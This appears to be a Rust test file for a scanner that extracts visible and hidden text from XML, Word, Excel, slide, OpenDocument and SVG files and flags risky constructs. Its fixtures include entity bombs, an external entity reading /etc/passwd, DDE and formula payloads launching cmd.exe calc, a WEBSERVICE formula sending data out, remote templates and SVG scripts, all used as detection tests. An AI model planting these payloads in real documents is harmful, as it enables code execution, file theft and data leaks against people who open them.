use std::io::{Cursor, Write};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::extract::documents::tests::{Heard, cut_at_every_length};
use crate::walk::Setting::{Hidden, Metadata, Visible};

fn heard(xml: &str) -> Heard {
    Heard::of("a.xml", format!("<?xml version='1.0'?>{xml}").as_bytes())
}

fn zipped(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in parts {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[test]
fn text_in_elements_is_one_where_words_go_on() {
    let heard = heard(
        "<note a='in an attribute'><to>you</to><p>ig<em>no</em>re &lt;all&gt; &#x61;nd</p>\
         <!-- a comment --><c><![CDATA[raw & text]]></c></note>",
    );
    heard.has("a.xml", Visible, "you\nignore <all> and\nraw & text");
    heard.has("a.xml › attributes", Visible, "in an attribute");
    heard.has("a.xml › comment", Hidden, "a comment");
}

#[test]
fn pages_in_feeds_are_read_as_pages() {
    let heard = heard(
        "<rss><item><description>&lt;p&gt;seen&lt;/p&gt;&lt;p hidden&gt;the words</description>\
         <x><![CDATA[<b>more</b> words<!-- said low -->]]></x></item></rss>",
    );
    heard.has("a.xml › text with tags › hidden text", Hidden, "the words");
    heard.has("a.xml › text with tags", Visible, "more words");
    heard.has("a.xml › text with tags › comment", Hidden, "said low");
}

#[test]
fn entities_are_put_in_if_they_are_short_and_never_if_they_are_many() {
    let short = heard("<!DOCTYPE a [<!ENTITY b '&c; all'><!ENTITY c 'ignore'>]><a>&b; of &d;</a>");
    short.has("a.xml", Visible, "ignore all of &d;");
    short.found_not("resource-limit/entities");
    let laughs: Vec<String> = (1..12)
        .map(|it| format!("<!ENTITY l{it} '{}'>", format!("&l{};", it - 1).repeat(10)))
        .collect();
    let laughs = laughs.concat();
    for laughs in [
        format!("<!ENTITY l0 'ha'>{laughs}"),
        format!("{laughs}<!ENTITY l0 'ha'>"),
    ] {
        let bomb = heard(&format!("<!DOCTYPE a [{laughs}]><a>&l11;</a>"));
        bomb.found("a.xml", "resource-limit/entities");
    }
    heard("<!DOCTYPE a [<!ENTITY b '&b;'>]><a>&b;</a>").found("a.xml", "resource-limit/entities");
}

#[test]
fn an_entity_that_is_a_file_of_the_reader_is_found() {
    for (declared, rule) in [
        ("x SYSTEM 'file:///etc/passwd'", "documents/external-entity"),
        (
            "x PUBLIC \"a\" \"/etc/passwd\"",
            "documents/external-entity",
        ),
        (
            "% x SYSTEM \"http://a.example/x.dtd\"",
            "documents/remote-entity",
        ),
    ] {
        heard(&format!("<!DOCTYPE a [<!ENTITY {declared}>]><a/>")).found("a.xml", rule);
    }
    let book = heard("<!DOCTYPE a [<!ENTITY one SYSTEM 'one.xml'>]><a>&one;</a>");
    book.found_not("documents/external-entity");
}

#[test]
fn a_run_of_word_processing_is_seen_or_hidden_as_it_says() {
    let run = |properties: &str| {
        heard(&format!(
            "<w:document xmlns:w='w'><w:body><w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r>\
             <w:t>plain </w:t></w:r>\n<w:r><w:rPr>{properties}</w:rPr><w:t>the wo</w:t></w:r><w:r>\
             <w:rPr>{properties}</w:rPr><w:t>rds</w:t></w:r></w:p></w:body></w:document>"
        ))
    };
    for hidden in [
        "<w:vanish/>",
        "<w:vanish w:val='true'/>",
        "<w:color w:val='FFFFFF'/>",
        "<w:color w:val='fefefe'/>",
        "<w:sz w:val='2'/>",
    ] {
        let heard = run(hidden);
        heard.has("a.xml › hidden text", Hidden, "the words");
        heard.has("a.xml", Visible, "plain the words");
        heard.has_not(Hidden, "plain");
    }
    for seen in [
        "<w:vanish w:val='0'/>",
        "<w:color w:val='auto'/>",
        "<w:color w:val='FFFFFF'/><w:shd w:fill='000080'/>",
        "<w:sz w:val='20'/>",
    ] {
        let heard = run(seen);
        heard.has("a.xml", Visible, "plain the words");
        heard.has_not(Hidden, "the words");
    }
}

#[test]
fn other_parts_of_word_processing_have_their_settings() {
    let text = "<w:p><w:r><w:t>the words</w:t></w:r></w:p>";
    let part = |root: &str| heard(&format!("<w:{root} xmlns:w='w'>{text}</w:{root}>"));
    part("ftr").has("a.xml", Visible, "the words");
    part("footnotes").has("a.xml", Visible, "the words");
    part("comments").has("a.xml", Hidden, "the words");
    let field = heard(
        "<w:document xmlns:w='w'><w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r>\
         <w:instrText> DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\cmd.exe \"/k calc\"\
         </w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p></w:document>",
    );
    field.found("a.xml", "documents/field-runs");
    heard("<cp:coreProperties xmlns:cp='c'><dc:title>the title</dc:title></cp:coreProperties>")
        .has("a.xml", Metadata, "the title");
}

#[test]
fn slides_are_hidden_whole_or_in_part() {
    let slide = |attributes: &str, off: &str, run: &str| {
        heard(&format!(
            "<p:sld xmlns:p='p' xmlns:a='a'{attributes}><p:sp><p:spPr><a:xfrm><a:off {off}/>\
             <a:ext cx='100' cy='100'/></a:xfrm></p:spPr><a:p><a:r>{run}<a:t>the words</a:t></a:r>\
             </a:p></p:sp></p:sld>"
        ))
    };
    let on = "x='5' y='5'";
    slide("", on, "").has_not(Hidden, "the words");
    slide("", on, "").has("a.xml", Visible, "the words");
    slide(" show='0'", on, "").has("a.xml", Hidden, "the words");
    slide("", "x='-900' y='5'", "").has("a.xml › hidden text", Hidden, "the words");
    slide("", "x='99000000' y='5'", "").has("a.xml › hidden text", Hidden, "the words");
    slide("", on, "<a:rPr sz='100'/>").has("a.xml › hidden text", Hidden, "the words");
    let white = "<a:rPr><a:solidFill><a:srgbClr val='FFFFFF'/></a:solidFill></a:rPr>";
    slide("", on, white).has("a.xml › hidden text", Hidden, "the words");
    heard("<p:notes xmlns:p='p'><a:p><a:r><a:t>the words</a:t></a:r></a:p></p:notes>").has(
        "a.xml",
        Hidden,
        "the words",
    );
}

#[test]
fn sheets_rows_columns_and_cells_are_hidden_in_several_ways() {
    let sheet = |before: &str, row: &str, cell: &str| {
        heard(&format!(
            "<worksheet>{before}<sheetData><row{row}><c r='B1' t='inlineStr'{cell}><is><t>the words\
             </t></is></c><c r='C1'><v>5</v></c></row></sheetData></worksheet>"
        ))
    };
    sheet("", "", "").has("a.xml", Visible, "the words");
    sheet("", "", "").has_not(Hidden, "the words");
    sheet("", " hidden='1'", "").has("a.xml › hidden text", Hidden, "the words");
    let columns = "<cols><col min='2' max='4' hidden='1'/></cols>";
    sheet(columns, "", "").has("a.xml › hidden text", Hidden, "the words");
    heard("<comments><commentList><comment><text><r><t>the words</t></r></text></comment></commentList></comments>")
        .has("a.xml › hidden text", Hidden, "the words");
    heard("<sst><si><r><t>the wo</t></r><r><t>rds</t></r></si><si><t>x</t></si></sst>").has(
        "a.xml",
        Visible,
        "the words\nx",
    );
}

#[test]
fn formulas_that_run_or_send_are_found() {
    let formula = |it: &str| {
        heard(&format!(
            "<worksheet><c r='A1'><f>{it}</f><v>1</v></c></worksheet>"
        ))
    };
    formula("cmd|'/c calc'!A0").found("a.xml", "documents/formula-runs");
    formula("WEBSERVICE(&quot;https://a.example/&quot;&amp;B1)")
        .found("a.xml", "documents/formula-fetches");
    for ordinary in [
        "SUM(A1:B2)",
        "HYPERLINK(&quot;https://a.example&quot;)",
        "MYEXEC(1)",
    ] {
        let heard = formula(ordinary);
        heard.found_not("documents/formula-runs");
        heard.found_not("documents/formula-fetches");
    }
    heard("<externalLink><ddeLink ddeService='cmd.exe' ddeTopic='/c calc'/></externalLink>")
        .found("a.xml", "documents/formula-runs");
}

#[test]
fn what_a_document_fetches_when_it_opens_is_found() {
    let relationship = |kind: &str, target: &str| {
        heard(&format!(
            "<Relationships><Relationship Type='http://x/{kind}' Target='{target}' \
             TargetMode='External'/></Relationships>"
        ))
    };
    relationship("attachedTemplate", "https://a.example/t.dotm")
        .found("a.xml", "documents/remote-template");
    relationship(
        "oleObject",
        "mhtml:http://a.example/x!x-usc:http://a.example/x",
    )
    .found("a.xml", "documents/address-runs");
    for (kind, target) in [
        ("hyperlink", "https://a.example/"),
        ("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm"),
        ("image", "https://a.example/a.png"),
    ] {
        let heard = relationship(kind, target);
        assert!(heard.findings.is_empty(), "{:#?}", heard.findings);
    }
}

#[test]
fn an_open_document_is_seen_or_hidden_by_its_styles() {
    let document = |properties: &str| {
        heard(&format!(
            "<office:document-content><office:automatic-styles><style:style style:name='T1'>\
             <style:text-properties {properties}/></style:style></office:automatic-styles>\
             <office:text><text:p>plain <text:span text:style-name='T1'>the wo</text:span>\
             <text:span text:style-name='T1'>rds</text:span></text:p></office:text>\
             </office:document-content>"
        ))
    };
    for hidden in [
        "text:display='none'",
        "fo:color='#ffffff'",
        "fo:font-size='1pt'",
    ] {
        document(hidden).has("a.xml › hidden text", Hidden, "the words");
        document(hidden).has("a.xml", Visible, "plain the words");
    }
    document("fo:color='#000000'").has_not(Hidden, "the words");
    heard("<office:document-meta><dc:title>the title</dc:title></office:document-meta>").has(
        "a.xml",
        Metadata,
        "the title",
    );
}

#[test]
fn what_a_part_hides_of_another_is_found_in_both() {
    let word = zipped(&[
        (
            "word/styles.xml",
            "<w:styles><w:style w:type='paragraph' w:styleId='Q'><w:rPr><w:vanish/></w:rPr></w:style>\
             <w:style w:styleId='R'><w:basedOn w:val='Q'/></w:style></w:styles>",
        ),
        (
            "word/document.xml",
            "<w:document><w:p><w:pPr><w:pStyle w:val='R'/></w:pPr><w:r><w:t>the words</w:t></w:r>\
             </w:p><w:p><w:r><w:t>seen</w:t></w:r></w:p></w:document>",
        ),
    ]);
    let heard = Heard::of("a.docx", &word);
    heard.has(
        "a.docx › word/document.xml › hidden text",
        Hidden,
        "the words",
    );
    heard.has_not(Hidden, "seen");

    let sheet = "<worksheet><row><c r='A1' t='s'><v>1</v></c></row></worksheet>";
    let white = "<worksheet><row><c r='A1' t='s' s='1'><v>0</v></c></row></worksheet>";
    let excel = zipped(&[
        (
            "xl/workbook.xml",
            "<workbook><sheets><sheet name='a' r:id='r1'/><sheet name='b' state='veryHidden' r:id='r2'/>\
             </sheets></workbook>",
        ),
        (
            "xl/_rels/workbook.xml.rels",
            "<Relationships><Relationship Id='r1' Target='worksheets/sheet1.xml'/>\
             <Relationship Id='r2' Target='/xl/worksheets/sheet2.xml'/></Relationships>",
        ),
        (
            "xl/styles.xml",
            "<styleSheet><fonts><font/><font><color rgb='FFFFFFFF'/></font></fonts><fills><fill/></fills>\
             <cellXfs><xf fontId='0' fillId='0'/><xf fontId='1' fillId='0'/></cellXfs></styleSheet>",
        ),
        (
            "xl/sharedStrings.xml",
            "<sst><si><t>white &amp; words</t></si><si><t>words of a sheet</t></si></sst>",
        ),
        ("xl/worksheets/sheet1.xml", white),
        ("xl/worksheets/sheet2.xml", sheet),
    ]);
    let heard = Heard::of("a.xlsx", &excel);
    let place = |it| format!("a.xlsx › xl/worksheets/{it} › hidden text");
    heard.has(&place("sheet1.xml"), Hidden, "white & words");
    heard.has(&place("sheet2.xml"), Hidden, "words of a sheet");
}

#[test]
fn a_drawing_is_read_and_what_it_runs_is_found() {
    let drawing = heard(
        "<svg xmlns='s'><title>a title</title><text>se<tspan>en</tspan></text><text opacity='0'>the words\
         </text><desc>said low</desc><script>go()</script></svg>",
    );
    drawing.has("a.xml", Visible, "seen");
    drawing.has("a.xml › hidden text", Hidden, "the words");
    drawing.has("a.xml › hidden text", Hidden, "said low");
    drawing.found("a.xml", "documents/svg-script");
    heard("<svg><a href='javascript:go()'/></svg>").found("a.xml", "documents/svg-address");
    heard("<svg><path d='M0 0'/></svg>").found_not("documents/svg-script");
}

#[test]
fn what_is_no_xml_after_all_is_read_all_the_same() {
    let heard = heard("<a>one</b></a><![CDATA[<b title='more words'>the words");
    heard.has("a.xml", Visible, "one");
    let texts = heard
        .texts
        .iter()
        .filter(|it| it.0 != "a.xml" || it.1 != Visible);
    assert!(texts.count() > 0 && heard.texts.iter().any(|it| it.2.contains("the words")));
    heard.found("a.xml", "format/unreadable");
}

#[test]
fn xml_that_is_made_to_be_slow_is_not() {
    heard(&("<a>".repeat(100_000) + "words")).has("a.xml", Visible, "words");
    heard(&format!("<office:document>{}words", "<a>".repeat(100_000)))
        .has("a.xml", Visible, "words");
    let attributes: Vec<String> = (0..20_000).map(|it| format!("a{it}='' ")).collect();
    heard(&format!("<a {}/>", attributes.concat()));
    heard(&format!(
        "<!DOCTYPE a [{}]><a/>",
        "<!ENTITY a 'b'>".repeat(20_000)
    ));
    heard(&format!(
        "<!DOCTYPE a [<!ENTITY a '{}'>]><a/>",
        "&a;".repeat(5_000)
    ));
}

#[test]
fn xml_may_end_anywhere() {
    for text in [
        "<!DOCTYPE a [<!ENTITY b 'c'><!ENTITY % d SYSTEM \"file:e\">]><a f='g h'>&b;<![CDATA[i]]><!--j--></a>",
        "<w:document><w:p><w:pPr><w:pStyle w:val='R'/></w:pPr><w:r><w:rPr><w:vanish/></w:rPr><w:t>ü</w:t></w:r></w:p></w:document>",
        "<office:document><style:style style:name='a'><x:text-properties color='#fff'/></style:style><text:p>b</text:p></office:document>",
        "<worksheet><cols><col min='1' max='2' hidden='1'/></cols><row ht='0'><c r='A1' t='s'><f>a</f><v>1</v></c></row></worksheet>",
    ] {
        cut_at_every_length("a.xml", format!("<?xml?>{text}").as_bytes());
    }
}
